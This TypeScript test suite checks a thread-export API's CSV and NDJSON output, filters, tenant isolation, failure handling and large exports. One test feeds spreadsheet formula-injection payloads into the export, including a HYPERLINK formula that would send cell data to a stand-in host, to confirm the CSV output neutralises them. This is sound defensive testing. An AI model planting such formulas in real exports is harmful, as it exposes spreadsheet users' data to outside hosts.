import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteObjectsCommand,
  ListObjectsV2Command,
} from "@aws-sdk/client-s3";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedThreads } from "../../bench/threads-list.js";
import type { Gateway } from "../../local/gateway.js";
import { createS3Client } from "../../shared/exports/s3.js";
import { categoryLabel, thread } from "../../shared/http/schemas.js";
import { parseCsv } from "../support/csv.js";
import { createTenant, type Tenant, useTestDb } from "../support/db.js";
import { startTestExportWorld } from "../support/exports.js";
import { type HttpReply, startTestGateway } from "../support/http.js";
import { eventually } from "../support/sqs.js";

const db = useTestDb();
let pipeline: Awaited<ReturnType<typeof startTestExportWorld>>;
let gateway: Gateway;
let call: Awaited<ReturnType<typeof startTestGateway>>["call"];

beforeAll(async () => {
  pipeline = await startTestExportWorld();
  ({ gateway, call } = await startTestGateway());
});
afterAll(async () => {
  await gateway?.close();
  await pipeline?.stop();
});

const base = (t: Tenant) => `/query/v1/projects/${t.projectId}`;

async function startExport(t: Tenant, body: Record<string, unknown>): Promise<string> {
  const reply = await call("POST", `${base(t)}/exports/`, { key: t.apiKey, body: JSON.stringify(body) });
  expect(reply.status, reply.text).toBe(202);
  expect(reply.json?.status).toBe("queued");
  return reply.json?.id as string;
}

/** Polls the export until it is finished (neither queued nor running). */
function finished(t: Tenant, id: string): Promise<Record<string, unknown>> {
  return eventually(async () => {
    const reply = await call("GET", `${base(t)}/exports/${id}/`, { key: t.apiKey });
    expect(reply.status, reply.text).toBe(200);
    const status = reply.json?.status;
    return status === "queued" || status === "running" ? undefined : (reply.json as Record<string, unknown>);
  }, 90_000);
}

/** Runs an export to the end and downloads its file with a plain GET of the presigned URL. */
async function exportFile(t: Tenant, body: Record<string, unknown>) {
  const result = await finished(t, await startExport(t, body));
  expect(result.status).toBe("done");
  const response = await fetch(result.url as string);
  expect(response.status).toBe(200);
  return { result, text: await response.text(), contentType: response.headers.get("content-type") };
}

/** Every page of the list (the source of truth the export must agree with). */
async function listAll(t: Tenant, query = ""): Promise<Record<string, unknown>[]> {
  const reply: HttpReply = await call("GET", `${base(t)}/threads/?limit=1000${query}`, { key: t.apiKey });
  expect(reply.status).toBe(200);
  expect(reply.json?.next).toBeNull();
  return reply.json?.results as Record<string, unknown>[];
}

const TRICKY = [
  'A "quoted" word, and a comma',
  "Two\nlines, and\r\nCRLF too",
  "Unicode: Grüße, 日本語, emoji 🎉, combining é, RTL שלום",
  "  leading and trailing spaces  ",
  '",\n"',
];

async function chat(t: Tenant, question: string, threadId?: string): Promise<string> {
  const body = JSON.stringify(threadId ? { question, thread_id: threadId } : { question });
  const reply = await call("POST", `${base(t)}/chat`, { key: t.apiKey, body });
  expect(reply.status, reply.text).toBe(200);
  return reply.json?.thread_id as string;
}

/** A project with tricky questions, follow-ups, and labels from users and from the classifier. */
async function trickyProject(): Promise<{ tenant: Tenant; ids: string[]; categoryId: string }> {
  const tenant = await createTenant(db, "exports");
  const ids: string[] = [];
  for (const question of TRICKY) ids.push(await chat(tenant, question));
  await chat(tenant, 'A follow-up, with "quotes"\nand a newline', ids[0]);
  const categories = await call("GET", `${base(tenant)}/categories/`, { key: tenant.apiKey });
  const [first, second] = (categories.json?.results ?? []) as { id: string }[];
  const categoryId = (first as { id: string }).id;
  await call("PATCH", `${base(tenant)}/threads/${ids[1]}/`, {
    key: tenant.apiKey,
    body: JSON.stringify({ category_id: categoryId }),
  });
  await db.execute(sql`update threads set category_id = ${(second as { id: string }).id},
    category_source = 'classifier', classified_at = now(), category_confidence = 0.75,
    category_rationale = 'A classifier label.' where id = ${ids[2]}`);
  return { tenant, ids, categoryId };
}

let trickyOnce: ReturnType<typeof trickyProject> | undefined;
/** The tricky project, made once for the tests that read it. */
const tricky = () => {
  trickyOnce ??= trickyProject();
  return trickyOnce;
};

describe("exports", () => {
  it("writes RFC 4180 CSV that reads back to exactly the list's threads", async () => {
    const { tenant, ids } = await tricky();
    const { result, text, contentType } = await exportFile(tenant, { format: "csv" });
    expect(contentType).toContain("text/csv");
    const [header, ...records] = parseCsv(text);
    // The list's Thread with its category flattened, in the schema's order.
    const columns = Object.keys(thread.shape).flatMap((key) =>
      key === "category" ? Object.keys(categoryLabel.shape).map((field) => `category_${field}`) : [key],
    );
    expect(header).toEqual(columns);
    const list = await listAll(tenant);
    expect(result.rows).toBe(list.length);
    const expected = list.map((t) =>
      columns.map((column) =>
        column.startsWith("category_")
          ? String((t.category as Record<string, unknown> | null)?.[column.slice("category_".length)] ?? "")
          : String(t[column]),
      ),
    );
    expect(records).toEqual(expected);
    // A classifier label's confidence; a user label has none.
    const confidenceOf = (id?: string) => records.find((r) => r[0] === id)?.[columns.indexOf("category_confidence")];
    expect([confidenceOf(ids[2]), confidenceOf(ids[1])]).toEqual(["0.75", ""]);
    // The tricky questions survived byte for byte (the chat trims only the ends).
    expect(records.map((r) => r[3])).toEqual(expect.arrayContaining(TRICKY.map((q) => q.trim())));
    expect(Buffer.from(text, "utf8").toString("utf8")).toBe(text);
  });

  it("writes NDJSON with the list's fields, and each thread's questions when asked", async () => {
    const { tenant, ids } = await tricky();
    const { text } = await exportFile(tenant, { format: "ndjson", include_questions: true });
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.slice(0, -1).split("\n");
    const list = await listAll(tenant);
    expect(lines).toHaveLength(list.length);
    for (const [i, line] of lines.entries()) {
      const exported = JSON.parse(line) as Record<string, unknown>;
      const detail = await call("GET", `${base(tenant)}/threads/${(list[i] as { id: string }).id}/`, {
        key: tenant.apiKey,
      });
      expect(exported).toEqual(detail.json);
    }
    const first = lines.map((l) => JSON.parse(l) as { id: string; question_answers: unknown[] });
    expect(first.find((t) => t.id === ids[0])?.question_answers).toHaveLength(2);

    const plain = await exportFile(tenant, { format: "ndjson" });
    const rows = plain.text
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toEqual(list);
  });
});

describe("exports: cells a spreadsheet would evaluate", () => {
  const FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1+2", "-5 degrees, is that cold?", "@SUM(A1:A9)"];

  it("neutralises them in CSV (a leading quote, OWASP) and keeps them verbatim in NDJSON", async () => {
    const tenant = await createTenant(db, "exports-formulas");
    const ids: string[] = [];
    for (const question of FORMULAS) ids.push(await chat(tenant, question));
    const created = await call("POST", `${base(tenant)}/categories/`, {
      key: tenant.apiKey,
      body: JSON.stringify({ name: "=1+1 risky" }),
    });
    expect(created.status, created.text).toBe(201);
    await call("PATCH", `${base(tenant)}/threads/${ids[0]}/`, {
      key: tenant.apiKey,
      body: JSON.stringify({ category_id: created.json?.id }),
    });
    const expected = [...FORMULAS].reverse();

    const records = parseCsv((await exportFile(tenant, { format: "csv", include_questions: true })).text).slice(1);
    expect(records.map((r) => r[3])).toEqual(expected.map((q) => `'${q}`));
    expect(records.at(-1)?.[6]).toBe("'=1+1 risky");
    // The conversation's JSON column starts with "[" and still parses to the stored text.
    const conversations = records.map((r) => JSON.parse(r.at(-1) as string) as { question: string }[]);
    expect(conversations.map((c) => c[0]?.question)).toEqual(expected);

    const lines = (await exportFile(tenant, { format: "ndjson" })).text.trimEnd().split("\n");
    const threads = lines.map((l) => JSON.parse(l) as { first_question: string; category: { name: string } | null });
    expect(threads.map((t) => t.first_question)).toEqual(expected);
    expect(threads.at(-1)?.category?.name).toBe("=1+1 risky");
  });
});

describe("exports: filters, empty projects, bad input and isolation", () => {
  it("applies the list's filters", async () => {
    const { tenant, categoryId } = await tricky();
    const created = (await listAll(tenant)).map((t) => t.created_at as string);
    const middle = created[2] as string;
    const cases: [Record<string, unknown>, string][] = [
      [{ category: categoryId }, `&category=${categoryId}`],
      [{ category: "none" }, "&category=none"],
      [{ source: "classifier" }, "&source=classifier"],
      [{ created_after: middle }, `&created_after=${encodeURIComponent(middle)}`],
      [{ created_before: middle }, `&created_before=${encodeURIComponent(middle)}`],
    ];
    for (const [filters, query] of cases) {
      const { text } = await exportFile(tenant, { format: "ndjson", ...filters });
      const exported = text
        ? text
            .trimEnd()
            .split("\n")
            .map((l) => (JSON.parse(l) as { id: string }).id)
        : [];
      const listed = (await listAll(tenant, query)).map((t) => t.id);
      expect(exported, JSON.stringify(filters)).toEqual(listed);
    }
  });

  it("exports an empty project: a header only, or an empty file", async () => {
    const tenant = await createTenant(db, "exports-empty");
    expect(parseCsv((await exportFile(tenant, { format: "csv" })).text)).toHaveLength(1);
    const ndjson = await exportFile(tenant, { format: "ndjson" });
    expect(ndjson.text).toBe("");
    expect(ndjson.result.rows).toBe(0);
  });

  it("rejects bad input with 400", async () => {
    const { tenant } = await tricky();
    for (const body of [
      {},
      { format: "xml" },
      { format: "csv", include_questions: "yes" },
      { format: "csv", category: "nope" },
      { format: "csv", created_after: "2026-02-01T00:00:00Z", created_before: "2026-01-01T00:00:00Z" },
      { format: "csv", extra: 1 },
    ]) {
      const reply = await call("POST", `${base(tenant)}/exports/`, { key: tenant.apiKey, body: JSON.stringify(body) });
      expect(reply.status, JSON.stringify(body)).toBe(400);
      expect(typeof reply.json?.detail).toBe("string");
    }
    const bad = await call("GET", `${base(tenant)}/exports/not-a-uuid/`, { key: tenant.apiKey });
    expect(bad.status).toBe(400);
  });

  it("is tenant-isolated: another project's export is not found, and its key is random", async () => {
    const { tenant } = await tricky();
    const other = await createTenant(db, "exports-other");
    const id = await startExport(tenant, { format: "csv" });
    const done = await finished(tenant, id);
    const foreign = await call("GET", `${base(other)}/exports/${id}/`, { key: other.apiKey });
    expect(foreign.status).toBe(404);
    expect(foreign.json).toEqual({ detail: `Export ${id} not found` });
    const unknown = await call("GET", `${base(tenant)}/exports/${crypto.randomUUID()}/`, { key: tenant.apiKey });
    expect(unknown.status).toBe(404);
    const wrongKey = await call("GET", `${base(tenant)}/exports/${id}/`, { key: other.apiKey });
    expect(wrongKey.status).toBe(403);
    const url = new URL(done.url as string);
    expect(url.pathname).not.toContain(id);
    const key = url.pathname.split("/").pop() as string;
    expect(key.length).toBeGreaterThanOrEqual(43 + ".csv".length); // 256 random bits, base64url
    expect(url.searchParams.get("X-Amz-Expires")).toBe("3600");
    expect(Date.parse(done.expires_at as string) - Date.now()).toBeGreaterThan(3500_000);
  });
});

describe("a failing export", () => {
  it("ends failed when S3 refuses the upload", async () => {
    const tenant = await createTenant(db, "exports-failing");
    await chat(tenant, "Will this export fail?");
    const s3 = createS3Client();
    // Take the bucket away (a real S3 error: NoSuchBucket), then put it back for other tests.
    const listed = await s3.send(new ListObjectsV2Command({ Bucket: pipeline.bucket }));
    const keys = (listed.Contents ?? []).map((o) => ({ Key: o.Key as string }));
    if (keys.length > 0)
      await s3.send(new DeleteObjectsCommand({ Bucket: pipeline.bucket, Delete: { Objects: keys } }));
    await s3.send(new DeleteBucketCommand({ Bucket: pipeline.bucket }));
    try {
      const result = await finished(tenant, await startExport(tenant, { format: "csv" }));
      expect(result.status).toBe("failed");
      expect(result.url).toBeNull();
      expect(result.expires_at).toBeNull();
    } finally {
      await s3.send(new CreateBucketCommand({ Bucket: pipeline.bucket }));
      s3.destroy();
    }
  });
});

// Last: its long parse leaves the gateway's keep-alive connections idle past their timeout.
describe("a large export", () => {
  it("streams a file of several multipart parts, every thread once, newest first", { timeout: 120_000 }, async () => {
    const tenant = await createTenant(db, "exports-large");
    await seedThreads(db, tenant.projectId, 60_000);
    const { result, text } = await exportFile(tenant, { format: "csv" });
    expect(Buffer.byteLength(text)).toBeGreaterThan(8 * 1024 * 1024); // more than one part
    const records = parseCsv(text).slice(1);
    expect(records).toHaveLength(60_000);
    expect(result.rows).toBe(60_000);
    expect(new Set(records.map((r) => r[0])).size).toBe(60_000);
    const times = records.map((r) => Date.parse(r[2] as string));
    expect(times.every((t, i) => i === 0 || t <= (times[i - 1] as number))).toBe(true);
  });
});
